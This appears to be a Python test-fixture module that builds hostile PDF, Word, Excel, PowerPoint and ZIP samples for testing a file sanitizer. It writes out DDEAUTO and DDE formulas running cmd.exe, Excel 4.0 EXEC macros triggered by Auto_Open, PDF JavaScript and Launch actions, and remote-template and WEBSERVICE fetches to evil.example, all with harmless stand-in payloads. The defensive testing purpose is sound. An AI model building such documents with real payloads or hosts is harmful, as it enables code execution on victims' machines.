"""Real files for the safe-copy tests, written by maintained writers (python-docx, openpyxl,
python-pptx, reportlab, pypdf, Pillow, pyzipper, Info-ZIP's zip). Where a writer cannot make
the dangerous part (no library writes a VBA project or a DDE field), the part is added to the
writer's package with zipfile, the way an attacker's tool would.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable

import docx
import openpyxl
import pptx
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
from reportlab.pdfbase import pdfmetrics
from reportlab.pdfbase.cidfonts import UnicodeCIDFont
from reportlab.pdfgen.canvas import Canvas

JA_FONT = "HeiseiMin-W3"
pdfmetrics.registerFont(UnicodeCIDFont(JA_FONT))
EMPTY_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
).replace(b"/>", b"></Relationships>", 1)
FAKE_VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"Attribute VB_Name AutoOpen Shell"


def pdf(pages: list[list[str]], *, page_size: tuple[float, float] = (595, 842)) -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=page_size)
    for lines in pages:
        canvas.setFont(JA_FONT, 14)
        for row, line in enumerate(lines):
            canvas.drawString(72, page_size[1] - 90 - row * 24, line)
        canvas.rect(60, 60, 200, 100)
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def many_pages(count: int) -> bytes:
    return pdf([[f"page {n}"] for n in range(count)])


def hostile_pdf() -> bytes:
    """OpenAction JavaScript, a document-level script, a Launch link and an embedded file."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf([["請求書 第1号", "合計 10,000円"]]))))
    script = writer._add_object(DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("app.alert(1)"),
    }))  # fmt: skip
    writer._root_object[NameObject("/Names")] = DictionaryObject({
        NameObject("/JavaScript"): DictionaryObject({
            NameObject("/Names"): ArrayObject([TextStringObject("init"), script]),
        }),
    })  # fmt: skip
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("this.exportDataObject({cName: 'evil.exe'});"),
    })  # fmt: skip
    writer.add_attachment("evil.exe", b"MZ\x90\x00 not really")
    launch = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"),
        NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 72, 300, 120)]),
        NameObject("/A"): DictionaryObject({
            NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe"),
        }),
    })  # fmt: skip
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(launch)])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf(password: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf([["秘密の資料"]]))))
    writer.encrypt(password, algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png(width: int, height: int, **info: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(out, "PNG", **info)
    return out.getvalue()


def _rewrite(data: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return out.getvalue()


def _add_rel(parts: dict[str, bytes], rels: str, rel_id: str, kind: str, target: str,
             external: bool = False) -> None:  # fmt: skip
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>'
    parts[rels] = parts[rels].replace(b"</Relationships>", entry.encode() + b"</Relationships>")


def _set_types(
    parts: dict[str, bytes],
    overrides: dict[str, str],
    defaults: dict[str, str] | None = None,
    main: tuple[str, str] | None = None,
) -> None:
    types = parts["[Content_Types].xml"].decode()
    if main is not None:
        types = types.replace(main[0], main[1])
    defaults_ = defaults or {}
    entries = [f'<Override PartName="/{n}" ContentType="{t}"/>' for n, t in overrides.items()]
    entries += [f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in defaults_.items()]
    parts["[Content_Types].xml"] = types.replace("</Types>", "".join(entries) + "</Types>").encode()


R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_R = "http://schemas.microsoft.com/office/2006/relationships"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"


def docx_bytes(paragraphs: list[str], table: list[list[str]] | None = None) -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if table:
        grid = document.add_table(rows=len(table), cols=len(table[0]))
        for r, row in enumerate(table):
            for c, value in enumerate(row):
                grid.cell(r, c).text = value
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def hostile_docm() -> bytes:
    """A macro document: VBA project and data, ActiveX, an OLE object, a DDEAUTO field, an
    INCLUDEPICTURE fetch, a remote template and an external hyperlink."""
    base = docx_bytes(["見積書をお送りします。", "金額は下記のとおりです。"])

    def change(parts: dict[str, bytes]) -> None:
        rels = "word/_rels/document.xml.rels"
        parts["word/vbaProject.bin"] = FAKE_VBA
        parts["word/_rels/vbaProject.bin.rels"] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="'
            b'http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            b'Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData"'
            b' Target="vbaData.xml"/></Relationships>'
        )
        parts["word/vbaData.xml"] = (
            b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne='
            b'"http://schemas.microsoft.com/office/word/2006/wordml"/>'
        )
        parts["word/activeX/activeX1.xml"] = (
            b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
            b'activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>'
        )
        parts["word/embeddings/oleObject1.bin"] = FAKE_VBA
        _add_rel(parts, rels, "rIdVba", f"{MS_R}/vbaProject", "vbaProject.bin")
        _add_rel(parts, rels, "rIdAx", f"{R}/control", "activeX/activeX1.xml")
        _add_rel(parts, rels, "rIdOle", f"{R}/oleObject", "embeddings/oleObject1.bin")
        _add_rel(parts, rels, "rIdLink", f"{R}/hyperlink", "http://evil.example/x", True)
        parts.setdefault("word/_rels/settings.xml.rels", EMPTY_RELS)
        _add_rel(parts, "word/_rels/settings.xml.rels", "rIdTpl", f"{R}/attachedTemplate",
                 "http://evil.example/t.dotm", True)  # fmt: skip
        settings = parts["word/settings.xml"].decode()
        template = '<w:attachedTemplate r:id="rIdTpl"/>'
        settings = re.sub(r"(<w:settings[^>]*>)", lambda m: m.group(1) + template, settings)
        parts["word/settings.xml"] = settings.encode()
        body = parts["word/document.xml"].decode()
        injected = (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
            " DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe"
            ' "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:t>計算結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/p.png&quot; ">'
            "<w:r><w:t>画像</w:t></w:r></w:fldSimple></w:p>"
            '<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>リンクの文字</w:t></w:r>'
            "</w:hyperlink></w:p>"
            '<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="CommandButton1"/></w:object>'
            '</w:r></w:p><w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:'
            'office:office" Type="Embed" ProgID="Package" r:id="rIdOle"/></w:object></w:r></w:p>'
        )
        body = re.sub(r"(<w:body>)", r"\1" + injected.replace("\\", "\\\\"), body, count=1)
        parts["word/document.xml"] = body.encode()
        _set_types(
            parts,
            {"word/vbaData.xml": "application/vnd.ms-word.vbaData+xml",
             "word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml",
             "word/embeddings/oleObject1.bin": OLE_TYPE},
            {"bin": "application/vnd.ms-office.vbaProject"},
            main=(WORD_MAIN, DOCM_MAIN),
        )  # fmt: skip

    return _rewrite(base, change)


XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def xlsx_bytes(rows: list[list[object]], title: str = "Sheet1") -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def hostile_xlsm() -> bytes:
    """DDE and WEBSERVICE formulas, a VBA project, an Excel 4.0 macro sheet run by Auto_Open,
    and a link to an external workbook."""
    base = xlsx_bytes(
        [["売上", "=cmd|'/c calc'!A0", '=WEBSERVICE("http://evil.example/")', "=1+2"]]
    )

    def change(parts: dict[str, bytes]) -> None:
        rels = "xl/_rels/workbook.xml.rels"
        parts["xl/vbaProject.bin"] = FAKE_VBA
        parts["xl/macrosheets/sheet2.xml"] = (
            b'<?xml version="1.0"?><xm:macrosheet xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/'
            b'main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row>'
            b"</sheetData></xm:macrosheet>"
        )
        parts["xl/externalLinks/externalLink1.xml"] = (
            b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/'
            b'spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
            b"</externalLink>"
        )
        _add_rel(parts, rels, "rIdVba", f"{MS_R}/vbaProject", "vbaProject.bin")
        _add_rel(parts, rels, "rIdM", f"{MS_R}/xlMacrosheet", "macrosheets/sheet2.xml")
        _add_rel(parts, rels, "rIdX", f"{R}/externalLink", "externalLinks/externalLink1.xml")
        book = parts["xl/workbook.xml"].decode()
        book = book.replace("</sheets>", '<sheet name="Macro1" sheetId="2" r:id="rIdM"/></sheets>'
                            '<externalReferences><externalReference r:id="rIdX"/>'
                            "</externalReferences>")  # fmt: skip
        auto = '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
        if "<definedNames>" in book:
            book = book.replace("<definedNames>", "<definedNames>" + auto)
        else:
            book = book.replace("<calcPr", f"<definedNames>{auto}</definedNames><calcPr")
        if 'xmlns:r="' not in book.split(">", 2)[1]:
            book = book.replace("<workbook ", f'<workbook xmlns:r="{R}" ', 1)
        parts["xl/workbook.xml"] = book.encode()
        _set_types(
            parts,
            {"xl/vbaProject.bin": "application/vnd.ms-office.vbaProject",
             "xl/macrosheets/sheet2.xml": "application/vnd.ms-excel.macrosheet+xml",
             "xl/externalLinks/externalLink1.xml":
                 "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"},
            main=(XLSX_MAIN, XLSM_MAIN),
        )  # fmt: skip

    return _rewrite(base, change)


PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
PPTM_MAIN = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"


def pptx_bytes(slides: list[list[str]], *, program_action: bool = False) -> bytes:
    deck = pptx.Presentation()
    for lines in slides:
        slide = deck.slides.add_slide(deck.slide_layouts[1])
        slide.shapes.title.text = lines[0]  # type: ignore[union-attr]
        body = slide.placeholders[1]
        body.text = "\n".join(lines[1:])  # type: ignore[attr-defined]
        if program_action:
            title = slide.shapes.title
            assert title is not None
            title.click_action.hyperlink.address = "file:///C:/Windows/System32/calc.exe"
            for link in title._element.iter("{*}hlinkClick"):
                link.set("action", "ppaction://program")
    out = io.BytesIO()
    deck.save(out)
    return out.getvalue()


def hostile_pptm() -> bytes:
    base = pptx_bytes([["議事録", "出席者: 3名"]], program_action=True)

    def change(parts: dict[str, bytes]) -> None:
        parts["ppt/vbaProject.bin"] = FAKE_VBA
        _add_rel(parts, "ppt/_rels/presentation.xml.rels", "rIdVba", f"{MS_R}/vbaProject",
                 "vbaProject.bin")  # fmt: skip
        _set_types(parts, {"ppt/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
                   main=(PPTX_MAIN, PPTM_MAIN))  # fmt: skip

    return _rewrite(base, change)


def zip_bytes(files: dict[str, bytes], *, password: bytes | None = None) -> bytes:
    """A plain ZIP, or a WinZip AES one (pyzipper) when a password is given."""
    out = io.BytesIO()
    if password is None:
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in files.items():
                archive.writestr(name, data)
        return out.getvalue()
    import pyzipper

    with pyzipper.AESZipFile(out, "w", compression=pyzipper.ZIP_DEFLATED,
                             encryption=pyzipper.WZ_AES) as archive:  # fmt: skip
        archive.setpassword(password)
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def encrypted_office(data: bytes, password: str) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(data)).encrypt(password, out)
    return out.getvalue()
